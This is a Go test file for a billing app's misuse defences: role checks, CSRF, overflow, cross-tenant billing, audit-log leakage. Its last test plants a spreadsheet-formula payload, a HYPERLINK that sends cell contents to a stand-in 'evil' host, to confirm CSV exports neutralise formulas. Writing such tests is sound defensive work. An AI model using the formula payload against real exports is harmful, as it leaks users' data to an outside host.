package handlers_test

// Billing's rules against misuse, through the real router.

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"canopy/views"
)

// byCategory gives the demo a plan priced by template category (standard
// $2.50, premium $9.00), puts Acme on it and makes "Income verification"
// premium, as the demo's billing history does.
func byCategory(t *testing.T, a *app) int64 {
	t.Helper()
	var id int64
	if err := a.db.Raw(`INSERT INTO billing_plans (name, currency, order_price, premium_order_price) VALUES ('Growth', 'USD', 250, 900) RETURNING id`).Scan(&id).Error; err != nil {
		t.Fatal(err)
	}
	for _, sql := range []string{"UPDATE billing_terms SET plan_id = ? WHERE tenant_id = ?"} {
		if err := a.db.Exec(sql, id, a.tenant("acme").ID).Error; err != nil {
			t.Fatal(err)
		}
	}
	if err := a.db.Exec("UPDATE templates SET category = 'premium' WHERE tenant_id = ? AND name = 'Income verification'", a.tenant("acme").ID).Error; err != nil {
		t.Fatal(err)
	}
	return id
}

// An Editor (who may not see billing) cannot mark a premium template
// Standard to have its orders billed at the standard price: the company's
// Admins choose a template's category.
func TestBillingWallEditorPicksTheCheaperCategory(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	byCategory(t, a)
	acme := a.tenant("acme")
	dave := a.user("dave@acme.test")
	if err := a.db.Exec("UPDATE memberships SET role = 'editor' WHERE tenant_id = ? AND user_id = ?", acme.ID, dave.ID).Error; err != nil {
		t.Fatal(err)
	}
	var tpl struct {
		ID                  int64
		Name                string
		BrandingCompanyName string
		BrandColor          string
		Collects            string
		Category            string
	}
	if err := a.db.Raw("SELECT id, name, branding_company_name, brand_color, collects, category FROM templates WHERE tenant_id = ? AND name = 'Income verification'", acme.ID).Scan(&tpl).Error; err != nil {
		t.Fatal(err)
	}
	var prices struct{ OrderPrice, PremiumOrderPrice int64 }
	a.db.Raw(`SELECT p.order_price, p.premium_order_price FROM billing_plans p JOIN billing_terms bt ON bt.plan_id = p.id
		WHERE bt.tenant_id = ? ORDER BY bt.effective_month DESC LIMIT 1`, acme.ID).Scan(&prices)
	t.Logf("template %q is %s; Acme's plan: standard %d, premium %d", tpl.Name, tpl.Category, prices.OrderPrice, prices.PremiumOrderPrice)

	b := a.browser()
	b.signIn("dave@acme.test", "acme")
	wantStatus(t, b.get(tenantURL("acme", views.BillingPath)), http.StatusForbidden) // he may not see billing
	edit := tenantURL("acme", fmt.Sprintf("/templates/%d/edit", tpl.ID))
	form := url.Values{"name": {tpl.Name}, "branding_company_name": {tpl.BrandingCompanyName}, "brand_color": {tpl.BrandColor},
		"collects": strings.Split(tpl.Collects, ","), "category": {"standard"}}
	r := b.submit(edit, edit, form)
	var order int64
	a.db.Raw("SELECT id FROM orders WHERE tenant_id = ? AND reference = 'ACME-1002'", acme.ID).Scan(&order)
	page := tenantURL("acme", fmt.Sprintf("/orders/%d", order))
	r2 := b.submit(page, page+"/status", url.Values{"status": {"completed"}})
	var cat string
	a.db.Raw("SELECT category FROM billing_order_days WHERE tenant_id = ? AND template_id = ? ORDER BY day DESC LIMIT 1", acme.ID, tpl.ID).Scan(&cat)
	if r.status == http.StatusSeeOther && cat == "standard" {
		t.Errorf("an Editor re-categorised premium %q as standard (%d), completed an order (%d) metered as %q: %d instead of %d a billable order",
			tpl.Name, r.status, r2.status, cat, prices.OrderPrice, prices.PremiumOrderPrice)
	}
}

// The audit log of a company billed to another does not show staff's
// change of its terms (its plan): that is in the platform's log.
func TestBillingWallRolledUpAuditShowsPlan(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	eu, acme := a.tenant("acme-eu"), a.tenant("acme")
	growth := byCategory(t, a)
	staff := a.browser()
	staff.signIn("staff@canopy.test", "admin")
	tab := tenantURL("admin", views.SubTenantPath(eu.ID, "billing"))
	r := staff.submit(tab, tab, url.Values{"plan_id": {fmt.Sprint(growth)}, "bill_to": {fmt.Sprint(acme.ID)}})
	wantStatus(t, r, http.StatusSeeOther)
	eve := a.browser()
	eve.signIn("eve@acme.test", "acme-eu")
	for _, p := range []string{"/settings/audit", "/settings/audit.csv"} {
		page := eve.get(tenantURL("acme-eu", p))
		if i := strings.Index(page.body, "plan_id"); i >= 0 {
			t.Errorf("%s shows a company billed to another its plan: …%s…", p, excerpt(page.body[max(0, i-80):min(len(page.body), i+160)]))
		}
	}
}

// CSRF on the new POSTs: without the token, refused and nothing changed.
func TestBillingWallBillingPostsNeedCSRF(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	staff := a.browser()
	staff.signIn("staff@canopy.test", "admin")
	eu := a.tenant("acme-eu")
	for _, p := range []struct {
		path string
		form url.Values
	}{
		{"/billing/refresh", url.Values{}},
		{"/plans", url.Values{"name": {"Free"}, "currency": {"USD"}, "base_fee": {"0"}, "order_price": {"0"}, "included_orders": {"0"},
			"device_month_price": {"0"}, "included_device_months": {"0"}, "seat_price": {"0"}, "included_seats": {"0"}}},
		{views.SubTenantPath(eu.ID, "billing"), url.Values{"plan_id": {"1"}, "bill_to": {"0"}}},
		{"/plans/1/archive", url.Values{}},
	} {
		r := staff.post(tenantURL("admin", p.path), p.form)
		if r.status != http.StatusForbidden {
			t.Errorf("POST %s without a CSRF token: %d", p.path, r.status)
		}
	}
}

// Staff cannot type an included quantity that would overflow the prices.
func TestBillingWallPlanAcceptsOverflowingIncluded(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	staff := a.browser()
	staff.signIn("staff@canopy.test", "admin")
	form := url.Values{"name": {"Unlimited seats"}, "currency": {"USD"}, "order_pricing": {"flat"}, "base_fee": {"0"}, "order_price": {"0"},
		"included_orders": {"0"}, "device_month_price": {"0"}, "included_device_months": {"0"}, "seat_price": {"8"},
		"included_seats": {"1000000000000000000"}}
	r := staff.submit(tenantURL("admin", "/plans/new"), tenantURL("admin", "/plans"), form)
	if r.status == http.StatusSeeOther {
		t.Errorf("a plan with 10^18 seats included was created (%s); PriceMonth overflows on it", r.header.Get("Location"))
	}
}

// Customers: the bill-to search and crafted staff fields are not read;
// staff's company routes refuse ids outside the tree; months written
// otherwise are not found.
func TestBillingWallCustomerSideSound(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	eve := a.browser()
	eve.signIn("eve@acme.test", "acme-eu")
	r := eve.get(tenantURL("acme-eu", "/sub-tenants/new?name=X&bill_to_q=Globex&find_bill_to=1"))
	if strings.Contains(r.body, "Globex") || strings.Contains(r.body, "Initech") {
		t.Errorf("a customer's bill-to search names other companies (%d)", r.status)
	}
	globex := a.tenant("globex")
	form := url.Values{"name": {"Crafted"}, "subdomain": {"crafted"}, "description": {"d"}, "email": {"x@crafted.test"},
		"timezone": {"UTC"}, "confirmed": {"yes"}, "bill_to": {fmt.Sprint(globex.ID)}, "plan_id": {"1"}}
	cr := eve.submit(tenantURL("acme-eu", "/sub-tenants/new"), tenantURL("acme-eu", "/sub-tenants"), form)
	var billTo *int64
	a.db.Raw("SELECT bt.bill_to_tenant_id FROM billing_terms bt JOIN tenants t ON t.id = bt.tenant_id WHERE t.subdomain = 'crafted'").Scan(&billTo)
	if billTo != nil && *billTo == globex.ID {
		t.Errorf("a customer billed a new company to Globex (%d)", cr.status)
	}
	t.Logf("crafted create: %d, bill_to %v", cr.status, billTo)
	staff := a.browser()
	staff.signIn("staff@canopy.test", "admin")
	for _, p := range []string{
		views.StaffBillingCompanyPath(a.tenant("admin").ID),
		views.StaffBillingCompanyPath(999999),
		views.StaffBillingCompanyPath(a.tenant("acme").ID, "statements", "2026-1"),
		views.StaffBillingCompanyPath(a.tenant("acme").ID, "statements", "2999-01"),
		views.StaffBillingCompanyPath(a.tenant("acme").ID, "statements", "%202026-11"),
		views.SubTenantPath(999999, "billing"),
	} {
		if r := staff.get(tenantURL("admin", p)); r.status != http.StatusNotFound {
			t.Errorf("staff GET %s: %d", p, r.status)
		}
	}
	alice := a.browser()
	alice.signIn("alice@acme.test", "acme")
	for _, p := range []string{views.StaffBillingCompanyPath(a.tenant("acme-eu").ID), views.SubTenantPath(a.tenant("acme-eu").ID, "billing"), "/billing", "/plans"} {
		if r := alice.get(tenantURL("acme", p)); r.status != http.StatusNotFound {
			t.Errorf("a customer's Super Admin GET %s: %d", p, r.status)
		}
	}
}

func TestBillingWallCSVFormula(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	a.db.Exec(`UPDATE tenants SET name = '=HYPERLINK("http://evil/?"&A1)' WHERE subdomain = 'acme-eu'`)
	a.db.Exec(`UPDATE templates SET name = '@SUM(1+1)' WHERE tenant_id = ?`, a.tenant("acme").ID)
	alice := a.browser()
	alice.signIn("alice@acme.test", "acme")
	r := alice.get(tenantURL("acme", views.BillingStatementPath(string(a.currentMonth("acme")), "csv")))
	for _, row := range readCSV(t, r) {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("formula cell %q", cell)
			}
		}
	}
	t.Logf("%d bytes", len(r.body))
}
